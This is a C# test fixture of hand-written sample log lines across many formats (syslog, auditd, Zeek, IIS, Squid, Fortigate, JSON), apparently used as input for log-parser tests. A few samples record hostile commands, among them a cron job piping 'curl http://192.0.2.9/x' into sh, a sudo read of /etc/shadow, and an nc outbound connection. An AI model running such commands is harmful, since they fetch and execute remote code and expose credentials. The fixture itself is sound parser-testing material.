namespace Vigie.Tests.Formats;

/// <summary>Contents of the line-based formats and of JSON, written by us after their documentation; the tests of each format say where it is.</summary>
internal static class LogSamples
{
    /// <summary>Format id, file name, content, events in it.</summary>
    public static TheoryData<string, string, string, int> All { get; } = new()
    {
        { "zeek-tsv", "dns.log", Zeek, 3 },
        { "csv", "export.csv", Csv, 3 },
        { "csv", "export.csv", CsvWindows, 2 },
        { "syslog", "auth.log", Auth, 9 },
        { "syslog", "syslog", Rfc5424, 4 },
        { "syslog", "messages", Iso, 7 },
        { "syslog", "network.log", Cisco, 8 },
        { "syslog", "queries.log", BindQueries, 2 },
        { "auditd", "audit.log", Auditd, 5 },
        { "access", "access.log", Access, 6 },
        { "w3c", "u_ex261121.log", Iis, 3 },
        { "w3c", "MSGTRK.LOG", Exchange, 2 },
        { "w3c", "pfirewall.log", WindowsFirewall, 2 },
        { "squid", "access.log", Squid, 3 },
        { "web-error", "error.log", ApacheError, 3 },
        { "web-error", "error.log", NginxError, 2 },
        { "fortigate", "fgt.log", Fortigate, 3 },
    };

    /// <summary>The same for formats whose events are not lines.</summary>
    public static TheoryData<string, string, string, int> Documents { get; } = new()
    {
        { "json", "events.jsonl", JsonLines, 3 },
        { "json", "cloudtrail.json", JsonWrapped, 2 },
        { "json", "export.json", JsonIndented, 2 },
    };

    public const string Zeek =
        "#separator \\x09\n#set_separator\t,\n#empty_field\t(empty)\n#unset_field\t-\n#path\tdns\n#open\t2026-11-21-10-00-00\n" +
        "#fields\tts\tuid\tid.orig_h\tid.orig_p\tid.resp_h\tid.resp_p\tproto\tquery\tqtype_name\tAA\tanswers\tTTLs\n" +
        "#types\ttime\tstring\taddr\tport\taddr\tport\tenum\tstring\tstring\tbool\tvector[string]\tvector[interval]\n" +
        "1763719200.500000\tCx1\t10.0.0.7\t5353\t10.0.0.53\t53\tudp\tmail.example.org\tA\tF\t192.0.2.1,192.0.2.2\t60.000000,60.000000\n" +
        "1763719201.000000\tCx2\t10.0.0.7\t5354\t10.0.0.53\t53\tudp\t-\t-\tT\t(empty)\t-\n" +
        "1763719202.000000\tCx3\t10.0.0.7\t5355\t10.0.0.53\t53\tudp\tt.example.org\tTXT\tF\ta\\x09b\t1.0\n" +
        "#close\t2026-11-21-11-00-00\n";

    public const string Csv = "time,user,\"note; with \"\"quotes\"\"\",size\r\n2026-11-21T10:20:30Z,alice,\"two\r\nlines\",10\r\n2026-11-21T10:20:31Z,bob,\"say \"\"hi\"\", then go\",20\r\n2026-11-21 10:20:32,carol,,30\r\n";

    public const string CsvWindows =
        "Level,Date and Time,Source,Event ID,Task Category\r\nInformation,11/21/2026 10:20:30 AM,Microsoft-Windows-Sysmon,1,Process Create (rule: ProcessCreate),\"Process Create:\r\nRuleName: -\r\nUtcTime: 2026-11-21 10:20:30.100\r\nImage: C:\\Windows\\System32\\cmd.exe\r\nCommandLine: cmd.exe /c whoami\r\nUser: CORP\\alice\"\r\n" +
        "Information,11/21/2026 10:20:31 AM,Microsoft-Windows-Security-Auditing,4624,Logon,\"An account was successfully logged on.\"\r\n";

    public const string Auth =
        "Nov 21 10:20:30 mail sshd[812]: Failed password for invalid user admin from 192.0.2.7 port 50000 ssh2\n" +
        "Nov 21 10:20:31 mail sshd[812]: Accepted publickey for alice from 2001:db8::7 port 50001 ssh2: ED25519 SHA256:abc\n" +
        "Nov 21 10:20:32 mail sshd[813]: Connection closed by authenticating user root 192.0.2.8 port 50002 [preauth]\n" +
        "Nov 21 10:20:33 mail sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/cat /etc/shadow\n" +
        "Nov 21 10:20:34 mail sudo:      bob : command not allowed ; TTY=pts/1 ; PWD=/ ; USER=#-1 ; COMMAND=/bin/sh\n" +
        "Nov 21 10:20:35 mail CRON[900]: (root) CMD (curl http://192.0.2.9/x | sh)\n" +
        "Nov 21 10:20:36 mail crontab[901]: (alice) REPLACE (alice)\n" +
        "Nov 21 10:20:37 mail su: pam_unix(su:auth): authentication failure; logname=bob uid=1001 euid=0 tty=pts/1 ruser=bob rhost=192.0.2.9  user=root\n" +
        "Nov 21 10:20:38 mail polkitd(authority=local): Registered Authentication Agent for unix-process:1:2\n";

    public const string Rfc5424 =
        "<34>1 2026-11-21T10:20:30.003Z mail su 77 ID47 - \uFEFF'su root' failed for alice on /dev/pts/8\n" +
        "<165>1 2026-11-21T11:20:30.000003+01:00 host.example.org evntslog - ID47 [exampleSDID@32473 iut=\"3\" eventSource=\"App\\\"x\\]\" eventID=\"1011\"][second@32473 class=\"high\"] An event\n" +
        "<86>1 2026-11-21T10:20:31Z fw sshd 5 - - Invalid user x from 192.0.2.3 port 22\n" +
        "<13>1 - - - - - -\n";

    public const string Iso =
        "2026-11-21T10:20:30.123456+00:00 gw kernel: [ 123.4] [UFW BLOCK] IN=eth0 OUT= MAC=00:11 SRC=192.0.2.1 DST=10.0.0.5 LEN=60 TOS=0x00 PREC=0x00 TTL=50 ID=1 DF PROTO=TCP SPT=40000 DPT=23 WINDOW=1 RES=0x00 SYN URGP=0\n" +
        "2026-11-21T10:20:31+0100 gw named[55]: client @0x7f10 10.0.0.7#5353 (evil.example): query: evil.example IN TXT +E(0)K (10.0.0.53)\n" +
        "2026-11-21T10:20:32Z gw dnsmasq[9]: query[AAAA] www.example.org from 10.0.0.8\n" +
        "2026-11-21T10:20:33Z gw clamd[10]: /srv/up/x.php: Php.Webshell.Test-1 FOUND\n" +
        "2026-11-21T10:20:34Z gw postfix/smtpd[11]: warning: unknown[192.0.2.44]: SASL LOGIN authentication failed: UGFzc3dvcmQ6\n" +
        "2026-11-21T10:20:35Z gw openvpn[12]: 192.0.2.45:51000 [bob] Peer Connection Initiated with [AF_INET]192.0.2.45:51000\n" +
        "2026-11-21T10:20:36Z gw dovecot: imap-login: Disconnected (auth failed, 3 attempts in 12 secs): user=<carol@example.org>, method=PLAIN, rip=192.0.2.46, lip=10.0.0.2, TLS\n";

    public const string Cisco =
        "Nov 21 10:20:30 core1 4711: *Nov 21 10:20:29.673: %PARSER-5-CFGLOG_LOGGEDCMD: User:netop  logged command:no logging host 10.0.0.9\n" +
        "<189>88: Nov 21 10:20:31.100 UTC: %SEC_LOGIN-4-LOGIN_FAILED: Login failed [user: root] [Source: 192.0.2.7] [localport: 22] [Reason: Login Authentication Failed] at 10:20:31 UTC Sat Nov 21 2026\n" +
        "Nov 21 10:20:32 core1 89: Nov 21 10:20:32.000: %TCP-6-BADAUTH: No MD5 digest from 10.0.0.1(179) to 10.0.0.2(11000), peer :179\n" +
        "<166>Nov 21 2026 10:20:33 fw1 : %ASA-4-106023: Deny tcp src outside:192.0.2.9/4000 dst inside:10.0.0.5/22 by access-group \"out\"\n" +
        "<187>: 2026 Nov 21 10:20:34.500 UTC: %ETHPORT-5-IF_DOWN_LINK_FAILURE: Interface Ethernet1/1 is down\n" +
        "Nov 21 2026 10:20:35 R1 %%01BGP/3/BGP_AUTH_FAILED(l)[0]:BGP session authentication failed. (PeerAddress=10.0.0.1:179)\n" +
        "Nov 21 10:20:36 srv app[1]: user input %SYS-5-CONFIG_I: is only quoted here\n" +
        "Sat Nov 21 10:20:37 2026\t10.0.0.1\tnetop\ttty2\t10.0.0.77\tstop\ttask_id=9\ttimezone=UTC\tservice=shell\tpriv-lvl=15\tcmd=configure terminal <cr>\n";

    public const string BindQueries =
        "21-Nov-2026 10:20:30.123 queries: info: client @0x7f10 10.0.0.7#40000 (a.example.org): query: a.example.org IN A +E(0)K (10.0.0.53)\n" +
        "21-Nov-2026 10:20:31.123 queries: info: client @0x7f10 10.0.0.8#40000 (b.example.org): query: b.example.org IN MX + (10.0.0.53)\n";

    // One event whole and enriched, two interleaved without end marks, one of user space, one connection.
    public const string Auditd =
        "type=SYSCALL msg=audit(1763719200.101:500): arch=c000003e syscall=59 success=yes exit=0 a0=55d0 a1=55d8 a2=55e0 a3=8 items=2 ppid=10 pid=11 auid=1000 uid=0 tty=pts0 ses=3 comm=\"curl\" exe=\"/usr/bin/curl\" key=\"exec\"\u001dARCH=x86_64 SYSCALL=execve AUID=\"alice\" UID=\"root\"\n" +
        "type=EXECVE msg=audit(1763719200.101:500): argc=3 a0=\"curl\" a1=\"-o\" a2=2F746D702F61206221\n" +
        "type=CWD msg=audit(1763719200.101:500): cwd=\"/root\"\n" +
        "type=PATH msg=audit(1763719200.101:500): item=0 name=\"/usr/bin/curl\" inode=1 nametype=NORMAL\n" +
        "type=PROCTITLE msg=audit(1763719200.101:500): proctitle=6375726C002D6F\n" +
        "type=EOE msg=audit(1763719200.101:500): \n" +
        "type=SYSCALL msg=audit(1763719201.000:501): arch=c00000b7 syscall=56 success=yes items=2 pid=12 uid=33 comm=\"sh\" exe=\"/bin/dash\"\n" +
        "type=SYSCALL msg=audit(1763719201.000:502): arch=c000003e syscall=42 success=yes pid=13 uid=33 comm=\"nc\" exe=\"/usr/bin/nc\"\n" +
        "type=CWD msg=audit(1763719201.000:501): cwd=\"/var/www\"\n" +
        "type=SOCKADDR msg=audit(1763719201.000:502): saddr=02000050C00002090000000000000000\n" +
        "type=PATH msg=audit(1763719201.000:501): item=1 name=\"up/x.php\" inode=2 nametype=CREATE\n" +
        "type=PROCTITLE msg=audit(1763719201.000:502): proctitle=\"nc\"\n" +
        "type=PROCTITLE msg=audit(1763719201.000:501): proctitle=7368\n" +
        "node=db1 type=USER_AUTH msg=audit(1763719202.000:503): pid=20 uid=0 auid=4294967295 ses=4294967295 msg='op=PAM:authentication acct=\"root\" exe=\"/usr/sbin/sshd\" hostname=192.0.2.5 addr=192.0.2.5 terminal=ssh res=failed'\n" +
        "type=1131 msg=audit(1763719203.000:504): pid=1 uid=0 msg='unit=firewalld comm=\"systemd\" exe=\"/usr/lib/systemd/systemd\" hostname=? addr=? terminal=? res=success'\n";

    public const string Access =
        "192.0.2.7 - frank [21/Nov/2026:10:20:30 +0100] \"GET /a/b.php?x=1 HTTP/1.1\" 200 2326 \"http://example.org/start\" \"Mozilla/5.0 (X11)\"\n" +
        "192.0.2.7 - - [21/Nov/2026:10:20:31 +0000] \"POST /login HTTP/1.0\" 302 -\n" +
        "www.example.org:443 192.0.2.8 - - [21/Nov/2026:10:20:32 +0000] \"GET / HTTP/2.0\" 200 12 \"-\" \"-\"\n" +
        "192.0.2.9 - - [21/Nov/2026:10:20:33 +0000] \"\\x16\\x03\\x01\" 400 0 \"-\" \"-\"\n" +
        "192.0.2.9 - - [21/Nov/2026:10:20:34 +0000] \"GET /?q=\\x22 HTTP/1.1\" 200 5 \"-\" \"say \\\"hi\\\"\" 0.003 upstream\n" +
        "192.0.2.9 - - [21/Nov/2026:10:20:35 +0000] \"CONNECT mail.example.net:443 HTTP/1.1\" 200 5 \"-\" \"curl/8\"\n";

    public const string Iis =
        "#Software: Microsoft Internet Information Services 10.0\r\n#Version: 1.0\r\n#Date: 2026-11-21 10:20:30\r\n" +
        "#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken\r\n" +
        "2026-11-21 10:20:30 10.0.0.2 GET /owa/auth.aspx a=1&b=2 443 - 192.0.2.7 Mozilla/5.0+(Windows+NT+10.0) - 200 0 0 15\r\n" +
        "2026-11-21 10:20:31 10.0.0.2 POST /up.aspx - 443 CORP\\alice 192.0.2.7 curl/8 https://example.org/ 500 0 0 3\r\n" +
        "#Fields: date time c-ip cs-method cs-uri-stem sc-status\r\n" +
        "2026-11-21 10:20:32 192.0.2.8 HEAD / 404\r\n";

    public const string Exchange =
        "#Software: Microsoft Exchange Server\r\n#Version: 15.02\r\n#Log-type: Message Tracking Log\r\n#Date: 2026-11-21T10:00:00.000Z\r\n" +
        "#Fields: date-time,client-ip,client-hostname,server-ip,event-id,recipient-address,message-subject,sender-address\r\n" +
        "2026-11-21T10:20:30.001Z,192.0.2.7,mx,10.0.0.2,RECEIVE,bob@example.org,\"Hello, you\",alice@example.org\r\n" +
        "2026-11-21T10:20:31.001Z,192.0.2.7,mx,10.0.0.2,DELIVER,bob@example.org,Plain,\r\n";

    public const string WindowsFirewall =
        "#Version: 1.5\r\n#Software: Microsoft Windows Firewall\r\n#Time Format: Local\r\n#Fields: date time action protocol src-ip dst-ip src-port dst-port size\r\n\r\n" +
        "2026-11-21 10:20:30 DROP TCP 192.0.2.7 10.0.0.5 40000 445 52\r\n2026-11-21 10:20:31 ALLOW UDP 10.0.0.5 10.0.0.53 5000 53 -\r\n";

    public const string Squid =
        "1763719200.123    921 10.0.0.7 TCP_MISS/200 507 POST http://www.example.org/up/a.exe?x=1 alice HIER_DIRECT/192.0.2.80 application/json\n" +
        "1763719201.123     10 10.0.0.7 TCP_TUNNEL/200 3999 CONNECT mail.example.net:443 - HIER_DIRECT/192.0.2.81 -\n" +
        "1763719202.000      0 10.0.0.8 TCP_DENIED/403 120 GET http://blocked.example/ - HIER_NONE/- text/html\n";

    public const string ApacheError =
        "[Sat Nov 21 10:20:30.902022 2026] [core:error] [pid 35708:tid 4328636416] [client 192.0.2.7:5000] File does not exist: /srv/x\n" +
        "[Sat Nov 21 10:20:31 2026] [notice] child pid 1 exit signal Segmentation fault (11)\n" +
        "[Sat Nov 21 10:20:32.000001 2026] [php:warn] [pid 9] [client 192.0.2.8:5001] PHP Warning: x\n";

    public const string NginxError =
        "2026/11/21 10:20:30 [error] 123#123: *7 open() \"/srv/x\" failed (2: No such file or directory), client: 192.0.2.7, server: _, request: \"GET /x HTTP/1.1\", host: \"example.org\"\n" +
        "2026/11/21 10:20:31 [alert] 123#0: worker process 124 exited on signal 6 (core dumped)\n";

    public const string Fortigate =
        "date=2026-11-21 time=10:20:30 devname=\"fw1\" devid=\"FG100\" eventtime=1763720430123456789 tz=\"+0000\" logid=\"0100044547\" type=\"event\" subtype=\"system\" level=\"information\" user=\"admin\" ui=\"GUI(192.0.2.7)\" action=\"Add\" cfgpath=\"system.admin\" cfgobj=\"backup\" msg=\"Add system.admin backup\"\n" +
        "date=2026-11-21 time=10:20:31 devname=\"fw1\" devid=\"FG100\" tz=\"+0100\" logid=\"0000000013\" type=\"traffic\" subtype=\"forward\" srcip=10.0.0.7 srcport=40000 dstip=192.0.2.9 dstport=21 action=\"accept\" proto=6\n" +
        "date=2026-11-21 time=10:20:32 devname=\"fw1\" devid=\"FG100\" logid=\"0101039426\" type=\"event\" subtype=\"vpn\" level=\"alert\" action=\"ssl-login-fail\" remip=192.0.2.66 user=\"bob\" msg=\"SSL user failed to logged in\"\n";

    public const string JsonLines =
        "{\"timestamp\":\"2026-11-21T10:20:30.5+0000\",\"flow_id\":1,\"event_type\":\"dns\",\"src_ip\":\"10.0.0.7\",\"dns\":{\"rrname\":\"t.example.org\",\"rrtype\":\"TXT\"}}\n" +
        "{\"timestamp\":\"2026-11-21T10:20:31+0000\",\"flow_id\":2,\"event_type\":\"flow\",\"src_ip\":\"10.0.0.7\",\"dest_ip\":\"192.0.2.9\"}\n" +
        "{\"MESSAGE\":\"two\\nlines \\u00e9\",\"__REALTIME_TIMESTAMP\":\"1763719200123456\",\"SYSLOG_IDENTIFIER\":\"sshd\"}\n";

    public const string JsonWrapped =
        "{\"Records\":[{\"eventVersion\":\"1.08\",\"eventTime\":\"2026-11-21T10:20:30Z\",\"eventSource\":\"s3.amazonaws.com\",\"eventName\":\"GetObject\",\"eventID\":\"a\"}," +
        "{\"eventVersion\":\"1.08\",\"eventTime\":\"2026-11-21T10:20:31Z\",\"eventSource\":\"s3.amazonaws.com\",\"eventName\":\"PutObject\",\"eventID\":\"b\",\"resources\":[{\"type\":\"x\"}]}],\"more\":{\"next\":[1,{}]}}\n";

    public const string JsonIndented =
        "[\n  {\n    \"Event\": {\n      \"System\": {\n        \"EventID\": 1,\n        \"Channel\": \"Security\"\n      }\n    }\n  },\n" +
        "  {\n    \"Event\": {\n      \"System\": {\n        \"EventID\": 2,\n        \"Channel\": \"System\"\n      }\n    }\n  }\n]\n";
}
